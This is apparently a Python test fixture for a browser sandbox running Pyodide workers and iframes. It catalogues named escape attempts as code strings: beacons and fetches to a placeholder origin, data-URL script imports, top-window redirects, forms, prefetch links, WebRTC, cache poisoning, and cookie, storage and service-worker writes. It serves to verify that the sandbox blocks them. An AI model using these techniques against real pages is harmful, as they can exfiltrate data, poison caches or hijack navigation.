"""Attempts to break out of the sandbox, by name.

Requests to another origin in addition to `hostile.WAYS`, access to data of the site,
and attempts that only a frame has. {url} is the other origin, {udp} its port for
datagrams, {site} the site.
"""

from hostile import WAYS, WORKER

__all__ = ["FRAME_WAYS", "FROM_WORKER", "OUT"]

OUT = WAYS | {
    "a stream of sockets": "await js.WebSocketStream.new('{socket}').opened",
    "a transport": "await js.WebTransport.new('{url}').ready",
    "a beacon": "js.navigator.sendBeacon('{url}', 'secret')",
    "a fetch for later": "js.fetchLater('{url}', activateAfter=0)",
    "a script": "js.importScripts('{url}')",
    "a script written into its address": (
        "js.importScripts(\"data:text/javascript,fetch('{url}')\")"
    ),
    "a module written into its address": """
from pyodide.code import run_js
await run_js("import('data:text/javascript,fetch(`{url}`)')")
""",
    "a shared worker": "js.SharedWorker.new('{url}')",
    "a connection between browsers": "js.RTCPeerConnection.new()",
    "a fetch of a worker in a worker": WORKER.replace(
        "{text}",
        "\"const text = `fetch('{url}').finally(() => postMessage(0))`;"
        "const url = URL.createObjectURL(new Blob([text]));"
        'new Worker(url).onmessage = () => postMessage(0)"',
    ).replace("{options}", "type='classic'"),
    "a word to the frame": """
js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, to_js("{url}"))
""",
}
"""Requests to another origin."""

KEPT = {
    "a cache": (
        "await (await js.caches.open('poison')).put('{site}', js.Response.new('bad'))"
    ),
    "its caches": "assert [n for n in await js.caches.keys() if '{site}' in n]",
    "a database": "await settled(js.indexedDB.open('own', 1), 'success')",
    "files": "await js.navigator.storage.getDirectory()",
    "storage": "js.localStorage.setItem('theme', 'bad')",
    "cookies": "js.document.cookie = 'a=b'",
    "the service worker": "await js.navigator.serviceWorker.register('{site}sw.js')",
    "a file of the site": "assert (await js.fetch('{site}manifest.json')).ok",
    "a worker of the site": """
worker = js.Worker.new('{site}web/python/worker/python.worker.js')
assert await settled(worker, 'message', 'error') == 'message'
""",
    "the page": "js.parent.document.title = 'bad'",
    "its address": "js.top.location = '{site}bad'",
}
"""Access to data or windows of the site; all must fail."""

FROM_WORKER = OUT | {f"kept: {name}": way for name, way in KEPT.items()}
"""All attempts by Python."""

FRAME_WAYS = {
    "the page's address": "top.location = '{url}'",
    "the page's place": "top.location.replace('{url}')",
    "a link at the top": (
        "const a = add('a', { href: '{url}', target: '_top' }); a.click()"
    ),
    "its own address": "location.href = '{url}'",
    "an address that is a page": ("location.href = `data:text/html,<img src='{url}'>`"),
    "a blob that is a page": (
        "location.href = URL.createObjectURL("
        "new Blob([`<img src='{url}'>`], { type: 'text/html' }))"
    ),
    "a refresh": (
        "add('meta', { httpEquiv: 'refresh', content: '0;url={url}' }, document.head)"
    ),
    "a window": "if (!open('{url}')) throw Error('none')",
    "a form": "add('form', { action: '{url}', method: 'post' }).submit()",
    "a form elsewhere": (
        "add('form', { action: '{url}', method: 'post', target: '_blank' }).submit()"
    ),
    "a ping": "add('a', { href: '#x', ping: '{url}' }).click()",
    "a prefetch": "add('link', { rel: 'prefetch', href: '{url}' }, document.head)",
    "a preload": (
        "add('link', { rel: 'preload', as: 'image', href: '{url}' }, document.head)"
    ),
    "a connection beforehand": (
        "add('link', { rel: 'preconnect', href: '{url}' }, document.head)"
    ),
    "a module beforehand": (
        "add('link', { rel: 'modulepreload', href: '{url}' }, document.head)"
    ),
    "a picture": "add('img', { src: '{url}' })",
    "a style": ("add('style', { textContent: 'body { background: url({url}) }' })"),
    "a sheet": "add('link', { rel: 'stylesheet', href: '{url}' }, document.head)",
    "a script": "add('script', { src: '{url}' }, document.head)",
    "a frame": "add('iframe', { src: '{url}' })",
    "a frame with a page": "add('iframe', { srcdoc: `<img src='{url}'>` })",
    "an object": "add('object', { data: '{url}' })",
    "a film": "add('video', { src: '{url}' })",
    "a beacon": "if (!navigator.sendBeacon('{url}', 'x')) throw Error('no')",
    "fetch": "await fetch('{url}', { mode: 'no-cors' })",
    "a fetch for later": "fetchLater('{url}', { activateAfter: 0 })",
    "a socket": "new WebSocket('{url}'.replace('http', 'ws'))",
    "an alert": "if (alert('x') === undefined) throw Error('none was shown')",
    "a download": (
        "const href = URL.createObjectURL(new Blob(['x']));"
        " add('a', { href, download: 'x' }).click()"
    ),
    "rules of speculation": (
        "add('script', { type: 'speculationrules', textContent:"
        " JSON.stringify({ prefetch: [{ source: 'list', urls: ['{url}'] }] }) })"
    ),
    "the page": "parent.document.title = 'bad'",
    "storage": "localStorage.setItem('theme', 'bad')",
    "cookies": "document.cookie = 'a=b'; if (!document.cookie) throw Error('none')",
    "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob([''])))",
    "caches": "await caches.open('poison')",
    "the service worker": "await navigator.serviceWorker.register('{site}sw.js')",
    "a broadcast": "new BroadcastChannel('page').postMessage('bad')",
    "history": "history.pushState(null, '', '{site}bad')",
    "WebRTC": (
        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] });"
        " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())"
    ),
}
"""Attempts by a script in the frame itself, which Python cannot reach."""
